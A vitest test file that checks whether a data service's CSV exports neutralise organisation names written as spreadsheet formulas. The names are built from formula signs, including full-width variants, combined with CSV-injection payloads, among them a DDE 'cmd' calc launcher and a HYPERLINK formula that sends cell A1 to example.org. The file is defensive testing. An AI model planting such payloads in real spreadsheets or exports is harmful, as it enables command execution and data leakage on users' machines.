import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixedSecret, largestOrganisation, type Service, startService } from './service.ts';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\u3000='];
const bodies = [
  '1+1',
  'SUM(A1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org?"&A1,"see")',
  'A1;B1',
  '10*5',
  'x',
];
/** Names that some spreadsheet would run, as a supplier may write them into the list of organisations. */
const names = signs.flatMap((sign) => bodies.map((body) => sign + body));
const cli = fileURLToPath(new URL('../../etl/src/cli.ts', import.meta.url));

/** Whether a spreadsheet may take the cell for a formula. */
const runs = (cell: string) => (/^[=+\-@＝＋－＠]/.test(cell.trim()) && !/^-[\d.]+(e-?\d+)?$/.test(cell) ? [cell] : []);

describe('organisations whose names are formulas', () => {
  const home = mkdtempSync(join(tmpdir(), 'ahp-formulas-'));
  let service: Service;
  beforeAll(async () => {
    const env = { ...process.env, ...fixedSecret };
    const etl = (...words: string[]) => execFileSync(process.execPath, [cli, ...words], { stdio: 'pipe', env });
    const extracts = join(home, 'extracts');
    etl('sample', '--people', '7000', '--months', '2', '--seed', '5', '--out', extracts);
    const list = join(extracts, 'organisations-synthetic.csv');
    const quoted = (i: number) => `"${names[i % names.length]!.replaceAll('"', '""')}"`;
    const [header, ...lines] = readFileSync(list, 'utf8').trimEnd().split('\n');
    const renamed = lines.map((line, i) => line.split(',').with(1, quoted(i)).join(','));
    writeFileSync(list, [header, ...renamed, ''].join('\n'));
    etl('build', '--extracts', extracts, '--data', join(home, 'data'));
    service = await startService(join(home, 'data'));
  });
  afterAll(async () => {
    await service?.close();
    rmSync(home, { recursive: true });
  });

  const cellsOf = async (url: string) => {
    const response = await fetch(url);
    expect(response.status, url).toBe(200);
    const fields = (await response.text()).matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n)/g);
    return [...fields].map(([, field]) => field!.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"'));
  };

  it('are text in every file of the api', async () => {
    const questions = [
      '{ organisations(first: 300) { nodes { code label } } }',
      '{ staff(by: [ORGANISATION], first: 300) { ... on StaffTable { rows { area { label } headcount { value } } } } }',
    ];
    for (const query of questions) {
      const cells = await cellsOf(`${service.api}/export.csv?${new URLSearchParams({ query })}`);
      expect(cells.flatMap(runs)).toEqual([]);
      expect(names.filter((name) => cells.includes(`'${name}`)).length, query).toBeGreaterThanOrEqual(56);
    }
  });

  const linksOf = async (page: string) => {
    const html = await (await fetch(new URL(page, service.url))).text();
    return [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href!.replaceAll('&amp;', '&'));
  };

  it('are text in every file that a page offers', async () => {
    const largest = await largestOrganisation(service.api);
    const files = new Set(['/data/quality.csv', '/data/reconciliation.csv', '/measures/measures.csv']);
    const pages = ['/organisations', `/organisations/${largest}`, `/board/${largest}`, '/trends', '/scorecard'];
    for (const page of pages)
      for (const link of await linksOf(page)) {
        if (link.includes('.csv')) files.add(link);
        else if (link.includes('after=')) pages.push(link);
      }
    expect(files.size).toBeGreaterThan(10);
    const named = new Set<string>();
    for (const file of files) {
      const cells = await cellsOf(new URL(file, service.url).href);
      expect(cells.flatMap(runs), file).toEqual([]);
      for (const name of names) if (cells.includes(`'${name}`)) named.add(name);
    }
    expect(named.size).toBeGreaterThanOrEqual(56);
  });
});
